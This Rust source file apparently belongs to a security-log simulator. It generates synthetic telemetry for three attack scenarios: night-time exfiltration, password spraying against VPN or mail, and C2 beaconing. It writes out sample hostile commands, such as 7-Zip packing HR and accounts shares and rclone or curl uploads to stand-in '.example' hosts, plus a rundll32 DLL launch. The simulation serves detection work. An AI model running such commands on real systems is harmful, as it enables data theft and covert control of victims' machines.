use std::net::Ipv4Addr;

use crate::Kind;
use crate::attacks::new_attacker;
use crate::devices::firewall::Flow;
use crate::dice::{HOUR, MINUTE, Rhythm};
use crate::stage::{Plot, Stage};

/// Much data to a host nobody has talked to, at night.
pub(crate) fn exfiltration(stage: &mut Stage, _start: f64) {
    let to = new_attacker(stage);
    let user = stage.dice.pick(&stage.company.users);
    let (login, host) = (user.login.clone(), user.workstation);
    let from = stage.company.address(host);
    let plot = Plot {
        kind: Kind::Exfiltration,
        attackers: vec![to],
        victim: stage.company.name(host),
        class: "exfiltration",
        techniques: &["T1039", "T1560.001", "T1567.002", "T1048"],
    };
    let start = stage.dice.moment(Rhythm::Night).min(22.7 * HOUR);
    stage.tell(plot, |stage| {
        let mut at = gather(stage, start, (&login, from));
        let archive = "C:\\Program Files\\7-Zip\\7z.exe";
        let pack = format!(
            "7z.exe a -p{} -mhe C:\\ProgramData\\d.7z Z:\\accounts Z:\\hr",
            stage.dice.hex(8)
        );
        stage.process(at + 30.0, host, &login, (archive, &pack, "C:\\Windows\\System32\\cmd.exe"));
        let name = stage
            .dice
            .pick(&[
                "drop-box-sync.example",
                "files-eu3.example",
                "s3.backup-storage.example",
                "put.transfer-box.example",
            ])
            .to_string();
        at += 200.0;
        stage.dns_query(at, from, (&name, to));
        let tool = *stage.dice.pick(&["rclone.exe", "winscp.exe", "curl.exe", "megasync.exe"]);
        let send =
            format!("{tool} copy C:\\ProgramData\\d.7z remote:{} --transfers 8", stage.dice.hex(5));
        stage.process(
            at + 1.0,
            host,
            &login,
            (&format!("C:\\ProgramData\\{tool}"), &send, "C:\\Windows\\System32\\cmd.exe"),
        );
        upload(stage, at + 5.0, (from, to), &name);
    });
}

fn gather(stage: &mut Stage, start: f64, (login, from): (&str, Ipv4Addr)) -> f64 {
    let mut at = start;
    for file in 0..stage.dice.range(25..=60u32) {
        at += stage.dice.range(0.2..=3.0);
        let folder =
            *stage.dice.pick(&["accounts/2026", "hr/contracts", "projects/offers", "customers"]);
        stage.nas_file(
            at,
            (login, from),
            ("read", &format!("/{folder}/{:04}.pdf", 1000 + file * 7)),
        );
    }
    at
}

fn upload(stage: &mut Stage, start: f64, (from, to): (Ipv4Addr, Ipv4Addr), name: &str) {
    let mut at = start;
    let parts = stage.dice.range(6..=14);
    for _ in 0..parts {
        at += stage.dice.range(30.0..=180.0);
        let flow = Flow {
            from,
            to,
            port: *stage.dice.pick(&[443, 443, 443, 22]),
            sent: stage.dice.range(400_000_000..=3_000_000_000),
            received: stage.dice.range(300_000..=5_000_000),
            duration: stage.dice.range(100..=600),
        };
        stage.flow_allowed(at, flow);
        stage.eve_tls(at - 20.0, flow, name);
        stage.eve_flow(at + 1.0, flow);
    }
}

/// A few common passwords for everybody, slowly.
pub(crate) fn password_spray(stage: &mut Stage, start: f64) {
    let count = stage.dice.range(1..=3);
    let mut sources = Vec::new();
    while sources.len() < count {
        let address = new_attacker(stage);
        if !sources.contains(&address) {
            sources.push(address);
        }
    }
    let vpn = stage.dice.chance(0.5);
    let victim = stage.company.name(if vpn { stage.company.asa } else { stage.company.mail });
    let plot = Plot {
        kind: Kind::PasswordSpray,
        attackers: sources.clone(),
        victim,
        class: "brute_force",
        techniques: &["T1110.003", "T1078"],
    };
    stage.tell(plot, |stage| {
        let mut users: Vec<_> = stage.company.users.iter().map(|user| user.login.clone()).collect();
        users.extend(["info", "office", "scanner", "accounting"].map(str::to_owned));
        stage.dice.shuffle(&mut users);
        let mut at = start.min(19.0 * HOUR);
        let rounds = stage.dice.range(2..=3);
        for _ in 0..rounds {
            for user in &users {
                at += stage.dice.range(2.0..=40.0);
                let from = *stage.dice.pick(&sources);
                guess(stage, at, (user, from), vpn);
            }
            at += stage.dice.range(10.0..=35.0) * MINUTE;
        }
        if stage.dice.chance(0.6) {
            let (user, from) = (stage.company.users[0].login.clone(), sources[0]);
            if vpn {
                stage.vpn_login(at, &user, from);
            } else {
                stage.imap_login(at, &user, from);
            }
        }
    });
}

fn guess(stage: &mut Stage, at: f64, (user, from): (&str, Ipv4Addr), vpn: bool) {
    if vpn {
        stage.vpn_rejected(at, user, from);
    } else if stage.dice.chance(0.5) {
        stage.imap_failed(at, user, from);
    } else {
        stage.smtp_auth_failed(at, user, from);
    }
}

/// A program that calls home at steady intervals.
pub(crate) fn beaconing(stage: &mut Stage, start: f64) {
    let to = new_attacker(stage);
    let user = stage.dice.pick(&stage.company.users);
    let (login, host) = (user.login.clone(), user.workstation);
    let from = stage.company.address(host);
    let plot = Plot {
        kind: Kind::Beaconing,
        attackers: vec![to],
        victim: stage.company.name(host),
        class: "command_and_control",
        techniques: &["T1071.001", "T1573", "T1218.011"],
    };
    stage.tell(plot, |stage| {
        let name = stage
            .dice
            .pick(&["telemetry-cdn.example", "cdn-metrics-eu.example", "win-time-sync.example"])
            .to_string();
        let library = format!(
            "rundll32.exe C:\\Users\\{login}\\AppData\\Local\\Temp\\{}.dll,Start",
            stage.dice.hex(6)
        );
        let image = "C:\\Windows\\System32\\rundll32.exe";
        let mut at = start;
        stage.process(at, host, &login, (image, &library, "C:\\Windows\\explorer.exe"));
        let step = f64::from(*stage.dice.pick(&[60u16, 120, 180, 300]));
        let agent = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)";
        let (path, sent) = (format!("/{}/check", stage.dice.hex(4)), stage.dice.range(600..=900));
        for _ in 0..stage.dice.range(40..=80) {
            at += step * stage.dice.range(0.95..=1.05);
            if at > 23.9 * HOUR {
                break;
            }
            let flow = Flow { from, to, port: 443, sent, received: 420, duration: 1 };
            stage.flow_allowed(at, flow);
            match stage.dice.range(0..=3) {
                0 => stage.dns_query(at - 0.2, from, (&name, to)),
                1 => stage.eve_tls(at, flow, &name),
                2 => stage.eve_http(at, Flow { port: 80, ..flow }, (&name, &path, agent)),
                _ => stage.connection(at, host, (image, to, 443)),
            }
        }
    });
}
